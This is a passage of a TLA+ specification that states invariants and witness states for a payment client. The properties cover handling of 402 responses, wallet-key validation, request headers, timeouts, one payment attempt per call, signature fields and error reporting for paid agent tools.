      /\ fmt.atomic.h = 0 =>
           /\ FromDecimal(SubSeq(fmt.text, 2, Len(fmt.text) - 12))
                = Big(0, fmt.atomic.v \div 1000000)
           /\ FromDecimal(SubSeq(fmt.text, Len(fmt.text) - 10, Len(fmt.text) - 5))
                = Big(0, fmt.atomic.v % 1000000)

\* 2^53 + 1 atomic units rendered
C25_Witness ==
    /\ fmt.pc = "done"
    /\ fmt.atomic = Big(TwoTo23, 1)
    /\ fmt.text = <<"$", "9", "0", "0", "7", "1", "9", "9", "2", "5", "4", ".",
                    "7", "4", "0", "9", "9", "3", " ", "U", "S", "D", "C">>

\* A key text that, trimmed and without a leading 0x, is 64 hex digits
WellFormedKey(rawKey) ==
    LET t == Trim(rawKey)
        digits == IF StartsWith0x(t) THEN SubSeq(t, 3, Len(t)) ELSE t
    IN  Len(digits) = 64 /\ \A i \in 1..64 : IsHex(digits[i])

\* The values of NULLPATH_WALLET_KEY of that form
WellFormedKeyValues == {key \in WalletKeyValues : WellFormedKey(KeyText(key))}

\* createWallet over the key texts: accepted exactly when of that form,
\* WalletNotConfiguredError when unset, InvalidPrivateKeyError otherwise
CreateWalletValidates ==
    \A rawKey \in WalletKeyTexts :
      LET w == CreateWalletOf(rawKey) IN
      /\ w.ok <=> WellFormedKey(rawKey)
      /\ rawKey = <<>> => w.error.class = "WalletNotConfiguredError"
      /\ (rawKey # <<>> /\ ~w.ok) => w.error.class = "InvalidPrivateKeyError"

\* C26: createWallet accepts the key exactly when, trimmed and with 0x put
\* in front where it is missing, it is 0x and 64 hex digits; an unset key
\* raises WalletNotConfiguredError and every other key it refuses raises
\* InvalidPrivateKeyError; in fetchWithPayment a 402 met with a key that is
\* not of that form ends in PaymentSigningError with no signing and no
\* retry, and a key of that form gets its wallet.
C26_KeyValidation ==
    /\ CreateWalletValidates
    /\ \A p \in Procs :
         LET c == call[p] IN
         (c.parses = 1 /\ c.wallets = 1) =>
           IF env.walletKey \in WellFormedKeyValues
           THEN createWallet(env).ok /\ c.result.cause.class # "InvalidPrivateKeyError"
           ELSE /\ c.pc = "failed"
                /\ c.result.kind = "error"
                /\ c.result.error = "PaymentSigningError"
                /\ c.result.cause.class = "InvalidPrivateKeyError"
                /\ c.signs = 0 /\ c.nonce = ""
                /\ Len(c.reqs) = 1

\* The entries of the caller's headers that name Content-Type
OwnContentType(c) ==
    {k \in 1..Len(c.options.headers) : Lower(c.options.headers[k][1]) = "content-type"}

\* C27: every request fetchWithPayment sends, the initial one and the retry,
\* carries a Content-Type: the caller's own value when the caller supplied
\* one, application/json otherwise.
C27_CallerHeadersWin ==
    \A p \in Procs :
      LET c == call[p] IN
      \A i \in 1..Len(c.reqs) :
        /\ "content-type" \in DOMAIN c.reqs[i].headers
        /\ c.reqs[i].headers["content-type"] =
             IF OwnContentType(c) = {} THEN "application/json"
             ELSE c.options.headers[CHOOSE k \in OwnContentType(c) :
                                      \A j \in OwnContentType(c) : j <= k][2]

\* A call is under way
Pending(c) == c.pc \notin {"idle", "done", "failed"}

\* C28: every suspension point of fetchWithPayment is bounded by a timeout,
\* so a call that has started comes to return or to raise, whatever the
\* server and the external program do.
C28_EveryCallSettles ==
    /\ [](\A p \in Procs :
            /\ \A i \in 1..Len(call[p].execs) : call[p].execs[i].timeout > 0
            /\ \A i \in 1..Len(call[p].reqs) : call[p].reqs[i].signal # Undefined)
    /\ \A p \in Procs : Pending(call[p]) ~> Finished(call[p])

-----------------------------------------------------------------------------
(* C29 *)

\* The tool call has been answered and the answer is not the paid result
ToolFailed(t) == t.pc = "returned" /\ t.result.object.payment = NoPayment

\* The answer is a structured object carrying error kind, message and hint
Structured(result) ==
    /\ ~result.isError
    /\ result.object.error # Undefined
    /\ result.object.message # NoMessage
    /\ result.object.hint # Undefined

\* C29: every failure of a paid tool call (execute_agent, register_agent),
\* whatever its kind, is answered with a structured object that carries the
\* error kind, the message and an actionable hint, never with the raw
\* exception.
C29_FailuresStructured == ToolFailed(tool) => Structured(tool.result)

-----------------------------------------------------------------------------
(* C30 *)

\* Two key texts that differ in their digits only
SameShape(a, b) ==
    /\ Len(a) = Len(b)
    /\ \A i \in 1..Len(a) : a[i] = b[i] \/ (IsHex(a[i]) /\ IsHex(b[i]))

\* Both runs have been made and both have failed on the key
BothRefused == keyRuns.done = {1, 2} /\ keyRuns.seen[1].failed /\ keyRuns.seen[2].failed

-----------------------------------------------------------------------------
(* C31 *)

\* C31: within one fetchWithPayment call at most one payment attempt is
\* made: at most one awalPay invocation, or at most one local signature
\* followed by at most one retry, never both; a delegate that failed is
\* neither invoked again nor followed by local signing, even when a key is
\* configured.
C31_OnePaymentAttempt ==
    \A p \in Procs :
        LET c == call[p] IN
        /\ Cardinality(PayExecs(c)) + c.signs <= 1
        /\ Len(c.reqs) <= 2
        /\ (Len(c.reqs) = 2 => c.signs = 1 /\ c.signOut.kind = "returns")
        /\ (PayExecs(c) # {} => Len(c.reqs) = 1 /\ c.wallets = 0)
        /\ (c.result.error = "AwalPaymentError" =>
               c.pc = "failed" /\ Cardinality(PayExecs(c)) = 1 /\ c.signs = 0)

C31_Witness ==
    \E p \in Procs :
        /\ call[p].pc = "failed"
        /\ call[p].result.error = "AwalPaymentError"
        /\ env.walletKey = "valid"
        /\ Cardinality(PayExecs(call[p])) = 1
        /\ call[p].signs = 0

-----------------------------------------------------------------------------
(* C32 *)

\* C32: a local payment attempt goes through its steps in the order initial
\* request, parse and validate, construct wallet, mismatch check, sign,
\* encode, retry, and a step that fails ends it: the wallet is built only
\* for requirements that parsed, the signer is called only with a wallet
\* and matching requirements, the retry is sent only with a signature, and
\* requirements that do not parse are reported whatever the key is.
C32_StepsInOrder ==
    \A p \in Procs :
        LET c == call[p] IN
        c.cfg = "direct" =>
            /\ (c.parses > 0 => Len(c.reqs) >= 1 /\ c.resps # <<>> /\ c.resps[1] = 402)
            /\ (c.wallets > 0 => c.parses = 1 /\ c.requirements # NoRequirements)
            /\ (c.signs > 0 => /\ c.wallets = 1
                               /\ createWallet(env).ok
                               /\ ~RequirementsMismatch(c.requirements))
            /\ (Len(c.reqs) = 2 => /\ c.signs = 1
                                   /\ c.signOut.kind = "returns"
                                   /\ c.signed # NoSigned
                                   /\ c.reqs[2].headers = RetryHeaders(c))
            /\ (c.parses = 1 /\ c.requirements = NoRequirements =>
                   /\ c.pc = "failed"
                   /\ c.result.error = "PaymentRequiredError"
                   /\ c.wallets = 0 /\ c.signs = 0 /\ Len(c.reqs) = 1)
            /\ (c.wallets = 1 /\ c.signs = 0 =>
                   c.pc = "failed" /\ Len(c.reqs) = 1 /\ c.signed = NoSigned)
            /\ (c.signs = 1 /\ c.pc = "failed" /\ Len(c.reqs) = 1 =>
                   c.result.error = "PaymentSigningError")

C32_Witness ==
    \E p \in Procs :
        /\ call[p].cfg = "direct"
        /\ env.walletKey = "malformed"
        /\ call[p].pc = "failed"
        /\ call[p].parses = 1
        /\ call[p].wallets = 0
        /\ call[p].result.error = "PaymentRequiredError"
        /\ call[p].result.detail = "expired"

-----------------------------------------------------------------------------
(* C33 *)

\* C33: the requirements parsePaymentRequired returns have validBefore
\* strictly after the second of the call; a payload without validBefore
\* gets that second plus 300, a payload without validAfter gets 0.
C33_ValidBeforeInFuture ==
    (parse.pc = "done" /\ parse.result.ok) =>
        LET h   == parse.response.h
            req == parse.result.req
        IN  /\ req.validBefore > parse.nowS
            /\ (h.validBefore.t = "absent" => req.validBefore = parse.nowS + 300)
            /\ (h.validAfter.t = "absent" => req.validAfter = 0)
            /\ (h.validAfter.t # "absent" => req.validAfter = h.validAfter.v)

C33_Witness ==
    /\ parse.pc = "done"
    /\ parse.result.ok
    /\ parse.response.h.validBefore.t = "absent"
    /\ parse.response.h.validAfter.t = "absent"
    /\ parse.nowS > StartS
    /\ parse.result.req.validBefore = parse.nowS + 300

-----------------------------------------------------------------------------
(* C34 *)

\* The amount the payload states: amount, or maxAmountRequired when amount
\* is absent, 0 or empty
StatedAmount(h) == IF Truthy(h.amount) THEN h.amount ELSE h.maxAmountRequired

\* A positive integer, written as a number or as a string
PositiveInteger(j) == j.t \in {"num", "str"} /\ j.h >= 0 /\ j.v >= 0 /\ (j.h > 0 \/ j.v > 0)

\* C34: the requirements parsePaymentRequired returns have an amount that is
\* an unsigned integer; a payload whose amount is negative, zero,
\* fractional or not a number is rejected with PaymentRequiredError.
C34_AmountUnsigned ==
    (parse.pc = "done" /\ parse.response.status = 402 /\ Decoded(parse.response.h)) =>
        /\ (parse.result.ok => parse.result.req.amount.h >= 0
                                /\ parse.result.req.amount.v >= 0)
        /\ (~PositiveInteger(StatedAmount(parse.response.h)) =>
               ~parse.result.ok /\ ~parse.result.null)

-----------------------------------------------------------------------------
(* C35 *)

\* C35: an authorization signPayment returns has from equal to the wallet's
\* address and to, value, validAfter and validBefore equal to recipient,
\* amount and validity window of the requirements, unchanged; when from
\* does not match the signing account, letter case aside, nothing is
\* signed.
C35_AuthorizationFrame ==
    sign.pc = "done" =>
        /\ (sign.result.ok =>
               /\ sign.result.signed.from = sign.wallet.address
               /\ sign.result.signed.to = sign.requirements.recipient
               /\ sign.result.signed.value = sign.requirements.amount
               /\ sign.result.signed.validAfter = sign.requirements.validAfter
               /\ sign.result.signed.validBefore = sign.requirements.validBefore
               /\ sign.result.signed.nonce = sign.nonce
               /\ AddrLower(sign.wallet.address) = AddrLower(sign.wallet.account))
        /\ (AddrLower(sign.wallet.address) # AddrLower(sign.wallet.account) =>
               ~sign.result.ok /\ sign.result.signerCalls = 0)

C35_Witness ==
    /\ sign.pc = "done"
    /\ sign.result.ok
    /\ sign.wallet.account = "0xwallet"
    /\ sign.result.signed.from = WalletAddress
    /\ sign.result.signed.value = Big(TwoTo23, 1)

\* C36: for every standard output, standard error and exit of the pay
\* command, awalPay returns a value or throws an AwalPaymentError and nothing
\* else: output that parses to null is thrown as AwalPaymentError, output
\* that parses to a number, string or boolean is returned as a success; and
\* whatever handleAwalPayment lets out for that outcome is a Response or an
\* AwalPaymentError.
C36_OnlyAwalPaymentError ==
    pay.pc = "done" =>
        LET r == pay.result
            o == pay.out
        IN  /\ r.threw \in BOOLEAN
            /\ (r.threw => r.class = "AwalPaymentError")
            /\ (~r.threw => r.class = "" /\ r.success \in BOOLEAN)
            /\ (o.exit = "ok" /\ Trim(o.stdout.text) # <<>> /\ o.stdout.doc.kind = "null"
                   => r.threw)
            /\ (o.exit = "ok" /\ Trim(o.stdout.text) # <<>>
                              /\ o.stdout.doc.kind = "primitive"
                   => ~r.threw /\ r.success)
            /\ (o.exit # "ok" /\ o.stderr.doc.kind \in {"null", "primitive"}
                   => ~r.threw /\ ~r.success)
            /\ pay.handled.kind \in {"response", "error"}
            /\ (pay.handled.kind = "error" => pay.handled.error = "AwalPaymentError")

\* Standard output that parses to null: the member read fails inside awalPay
\* and what leaves it is an AwalPaymentError
C36_Witness ==
    /\ pay.pc = "done"
    /\ pay.out.exit = "ok"
    /\ pay.out.stdout.doc.kind = "null"
    /\ pay.result.threw
    /\ pay.result.class = "AwalPaymentError"
    /\ pay.handled.error = "AwalPaymentError"

\* C37: while NULLPATH_WALLET_KEY is unset, execute_agent and register_agent
\* answer 'Wallet not configured' as a plain result and nothing else happens:
\* no HTTP request, no awal process (status probe or pay command), no backend
\* chosen, no status cached, whatever NULLPATH_USE_AWAL says.
C37_NoWalletNoRequest ==
    ~isWalletConfigured(env) =>
        /\ \A p \in Procs :
              /\ call[p].pc = "idle"
              /\ call[p].reqs = <<>>
              /\ call[p].execs = <<>>
              /\ call[p].cfg = ""
              /\ call[p].signs = 0
        /\ calls = 0
        /\ awalStatusCache = NoStatus
        /\ awalStatusCacheTime = 0
        /\ tool.pc \in {"idle", "returned"}
        /\ (tool.pc = "returned" =>
               /\ ~tool.result.isError
               /\ tool.result.object.error = "Wallet not configured"
               /\ tool.result.object.payment = NoPayment)

\* The key is unset and the delegate backend is forced: the tool has answered
C37_Witness ==
    /\ env.walletKey = ""
    /\ isAwalForced(env)
    /\ tool.pc = "returned"
    /\ tool.name = "register_agent"
    /\ tool.result.object.error = "Wallet not configured"
    /\ \A p \in Procs : call[p].reqs = <<>> /\ call[p].execs = <<>>

\* The tool has answered with the body of an ok response
ToolSucceeded(t) ==
    /\ t.pc = "returned"
    /\ ~t.result.isError
    /\ t.result.object.error = Undefined

\* A payment was made during the call: the first response was 402 and the
\* paid retry, or the delegate, brought the response that was returned
PaymentMade(c) == c.resps # <<>> /\ c.resps[1] = 402 /\ c.result.via \in {"retry", "awal"}

\* The address of the backend that paid
PayerAddress(c) ==
    IF c.result.via = "awal" THEN c.awalStatus.address
    ELSE createWallet(env).wallet.address

\* C38 (as claimed): a successful execute_agent or register_agent result
\* carries the annotation {status: 'paid', from} exactly when a payment was
\* made during the call, and from is the address of the backend that paid.
C38_PaidAnnotation ==
    ToolSucceeded(tool) =>
        \A p \in Procs :
            LET c == call[p]
                a == tool.result.object.payment
            IN  /\ (a # NoPayment) <=> PaymentMade(c)
                /\ (a # NoPayment => a.status = "paid" /\ a.from = PayerAddress(c))

\* C39 (as claimed): a checkAwalStatus call that starts after clearAwalCache
\* never returns a status stored by a probe that was in flight when the
\* cache was cleared, and the cache is empty exactly when its timestamp is 0.
C39_NoStaleAfterClear ==
    /\ [][\A q \in Checkers :
             (CallStarts(q) /\ check'[q].fromCache) =>
                 \A w \in Checkers : check[w].wrote # "stale"]_vars
    /\ [](awalStatusCache = NoStatus <=> awalStatusCacheTime = 0)

=============================================================================
